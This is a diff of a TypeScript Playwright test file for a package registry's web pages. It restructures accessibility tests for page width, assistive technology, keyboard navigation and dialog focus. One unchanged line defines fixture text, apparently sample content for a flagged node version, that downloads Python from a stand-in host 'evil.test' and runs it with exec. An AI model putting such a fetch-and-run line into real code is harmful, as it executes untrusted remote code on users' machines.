@@ -1,25 +1,25 @@
 import assert from 'node:assert/strict'
-import { test } from 'node:test'
+import { describe, it } from 'node:test'
 import type { Page } from 'playwright-core'
 import { createPublisherFor, createTokenFor } from '../server/src/operator/publishers.ts'
 import { publish } from '../server/test/command-line-client.ts'
 import { buildPack } from '../server/test/pack.ts'
-import { memberPaths } from '../web/src/account/member-links.ts'
-import { adminPaths } from '../web/src/admin/admin-paths.ts'
-import { managePaths } from '../web/src/manage/links.ts'
-import { paths } from '../web/src/paths.ts'
+import { adminPaths } from '../web/src/admin/kit/admin-paths.ts'
+import { managePaths } from '../web/src/ground/paths/manage-links.ts'
+import { memberPaths } from '../web/src/ground/paths/member-links.ts'
+import { paths } from '../web/src/ground/paths/paths.ts'
 import { isWalkedByKeyboard } from './keyboard.ts'
 import { fitsItsWidth, hidesNothing } from './looks.ts'
 import { signUp } from './people.ts'
 import { type Product, useProduct } from './product.ts'
 
-const it = useProduct({}, {}, fillRegistry)
+const holder = useProduct({}, {}, fillRegistry)
 
-/** Longer than any column, without a place to break. */
+/** Longer than any column and without a line break opportunity. */
 const longName = 'Extraordinarily'.repeat(6)
 const suspicious = 'import requests\n\nexec(requests.get("https://evil.test/code").text)\n'
 
-/** A publisher with a node whose second version was found suspicious, and something on every page of the admins. */
+/** Creates a publisher with a flagged second version of a node, and content on every admin page. */
 async function fillRegistry({ world, apiUrl }: Product): Promise<void> {
   const { given } = world
   await createPublisherFor(world.deps, {
@@ -81,61 +81,63 @@ const looks = [
 ] as const
 
 const isThorough = process.env['EVERY_LOOK'] === '1'
-/** One look a page, both with `npm run looks`. */
+/** One look per page, both with `npm run lab -- looks`. */
 const looksOf = (index: number) => (isThorough ? looks : [looks[index % looks.length]])
-/** One page in five, all of them with `npm run looks`. */
+/** Every fifth page, or all of them with `npm run lab -- looks`. */
 const isWalked = (index: number) => isThorough || index % 5 === 0
 
-test('the pages of members and admins fit their width, hide nothing from assistive technology, and are walked by keyboard', async () => {
-  assert.ok(ofMembers.length > 25)
-  const { page } = await it.product.visit({ expectedComplaints: /40[34]/ })
-  const email = await signUp(page, '/account')
-  const { deps, given } = it.product.world
-  const user = await deps.db
-    .updateTable('users')
-    .set({ is_admin: true })
-    .where('email', '=', email)
-    .returning('id')
-    .executeTakeFirstOrThrow()
-  await given.member({ publisher_id: 'lumen', user_id: user.id, role: 'owner' })
-  for (const [index, path] of ofMembers.entries()) {
-    for (const { locale, colorScheme, width } of looksOf(index).flatMap((look) => look ?? [])) {
-      await page.emulateMedia({ colorScheme })
-      await page.setViewportSize({ width, height: 900 })
-      await page.goto(locale === 'en' ? path : `/ar${path}`)
-      await settled(page)
-      await it.product.picture(page, `member${path.replaceAll('/', '-')}-${locale}`)
-      await fitsItsWidth(page, path)
-      await hidesNothing(page, path)
-      if (isWalked(index)) await isWalkedByKeyboard(page, path)
+describe('the pages of members and admins', () => {
+  it('fit their width, are accessible and can be used by keyboard', async () => {
+    assert.ok(ofMembers.length > 25)
+    const { page } = await holder.product.visit({ expectedComplaints: /40[34]/ })
+    const email = await signUp(page, '/account')
+    const { deps, given } = holder.product.world
+    const user = await deps.db
+      .updateTable('users')
+      .set({ is_admin: true })
+      .where('email', '=', email)
+      .returning('id')
+      .executeTakeFirstOrThrow()
+    await given.member({ publisher_id: 'lumen', user_id: user.id, role: 'owner' })
+    for (const [index, path] of ofMembers.entries()) {
+      for (const { locale, colorScheme, width } of looksOf(index).flatMap((look) => look ?? [])) {
+        await page.emulateMedia({ colorScheme })
+        await page.setViewportSize({ width, height: 900 })
+        await page.goto(locale === 'en' ? path : `/ar${path}`)
+        await settled(page)
+        await holder.product.picture(page, `member${path.replaceAll('/', '-')}-${locale}`)
+        await fitsItsWidth(page, path)
+        await hidesNothing(page, path)
+        if (isWalked(index)) await isWalkedByKeyboard(page, path)
+      }
     }
+  })
+
+  /** Waits until the page is shown and loads nothing. */
+  async function settled(page: Page): Promise<void> {
+    await page.getByRole('heading', { level: 1 }).first().waitFor()
+    await page.waitForFunction(() => !document.querySelector('main .spinner, main [aria-busy=true]'))
   }
-})
 
-/** The page is there, and nothing of it is awaited. */
-async function settled(page: Page): Promise<void> {
-  await page.getByRole('heading', { level: 1 }).first().waitFor()
-  await page.waitForFunction(() => !document.querySelector('main .spinner, main [aria-busy=true]'))
-}
-
-test('a dialog keeps the focus to itself, and gives it back', async () => {
-  const { page } = await it.product.visit()
-  await signUp(page, '/account')
-  const opener = page.getByRole('button', { name: 'Delete my account' })
-  const dialog = page.getByRole('dialog')
-  const isInside = () => dialog.evaluate((element) => element.contains(document.activeElement))
-  for (const leave of [
-    () => page.keyboard.press('Escape'),
-    () => dialog.getByText('Cancel').press('Enter'),
-  ]) {
-    await opener.press('Enter')
-    await dialog.waitFor()
-    for (let press = 0; press < 6; press++) {
-      await page.keyboard.press('Tab')
-      assert.ok((await isInside()) || (await page.evaluate(() => document.activeElement === document.body)))
+  it('keep the focus in an open dialog, and return it afterwards', async () => {
+    const { page } = await holder.product.visit()
+    await signUp(page, '/account')
+    const opener = page.getByRole('button', { name: 'Delete my account' })
+    const dialog = page.getByRole('dialog')
+    const isInside = () => dialog.evaluate((element) => element.contains(document.activeElement))
+    for (const leave of [
+      () => page.keyboard.press('Escape'),
+      () => dialog.getByText('Cancel').press('Enter'),
+    ]) {
+      await opener.press('Enter')
+      await dialog.waitFor()
+      for (let press = 0; press < 6; press++) {
+        await page.keyboard.press('Tab')
+        assert.ok((await isInside()) || (await page.evaluate(() => document.activeElement === document.body)))
+      }
+      await leave()
+      await dialog.waitFor({ state: 'detached' })
+      assert.ok(await opener.evaluate((element) => element === document.activeElement))
     }
-    await leave()
-    await dialog.waitFor({ state: 'detached' })
-    assert.ok(await opener.evaluate((element) => element === document.activeElement))
-  }
+  })
 })
